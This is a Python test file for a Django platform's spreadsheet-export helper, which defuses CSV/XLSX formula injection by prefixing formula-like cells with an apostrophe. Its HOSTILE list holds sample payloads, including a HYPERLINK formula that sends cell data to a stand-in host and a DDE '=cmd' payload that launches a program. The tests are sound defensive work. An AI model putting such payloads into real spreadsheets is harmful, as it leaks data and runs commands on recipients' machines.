"""No formula leaves the platform live: the one cell helper, and every spreadsheet writer uses it."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook, load_workbook

from xietong.core.spreadsheets import cell_safe, csv_row, xlsx_row, xlsx_text
from xietong.core.validators import validate_no_formula

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(value):
    assert cell_safe(value) == "'" + value
    assert csv_row([value]) == ["'" + value]


@pytest.mark.parametrize("value", ["张三", "福建省龙岩市", "", "1,234.50", "a=b", 12, None, -5])
def test_other_values_are_unchanged(value):
    assert cell_safe(value) == value


def test_xlsx_strings_are_strings_never_formulas():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(xlsx_row(ws, [*HOSTILE, 3, "plain"]))
    normal = Workbook()
    cell = xlsx_text(normal.active.cell(row=1, column=1, value="=1+1"))
    assert cell.data_type == "s" and cell.value == "'=1+1"
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue()))
    cells = next(iter(back.worksheets[0].iter_rows()))
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE) + ["n", "s"]
    assert [c.value for c in cells[: len(HOSTILE)]] == ["'" + v for v in HOSTILE]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_name_or_address_that_is_a_formula_is_refused(value):
    with pytest.raises(ValidationError) as e:
        validate_no_formula(value)
    assert e.value.code == "formula"


def test_every_spreadsheet_writer_uses_the_helper():
    root = Path(__file__).resolve().parents[3]
    writers = []
    for path in sorted((root / "xietong").rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if "/tests/" in rel or "/migrations/" in rel or rel == "xietong/core/spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(", text):
            writers.append(rel)
            assert "xietong.core.spreadsheets" in text, f"{rel} writes a spreadsheet without cell_safe"
        # Every CSV row written goes through csv_row, the platform's own input copies included.
        for call in re.finditer(r"\.writerows?\((.{0,12})", text):
            assert call.group(1).startswith("csv_row("), f"{rel}: a CSV row written without csv_row"
    assert {"xietong/batches/xlsx.py", "xietong/batches/followup.py", "xietong/batches/api.py"} <= set(writers)
    assert "xietong/batches/demo.py" in writers


def test_the_reader_takes_back_what_the_helper_wrote():
    from xietong.core.spreadsheets import cell_value, neutralised

    for value in [*HOSTILE, "张三", "", "'quoted'", "'", "1,234.50"]:
        assert cell_value(cell_safe(value)) == value
    assert cell_value("'张三") == "'张三"  # an apostrophe before ordinary text is the text's own
    assert neutralised("a,'=1\r\n") and not neutralised("O'Brien,1\r\n")
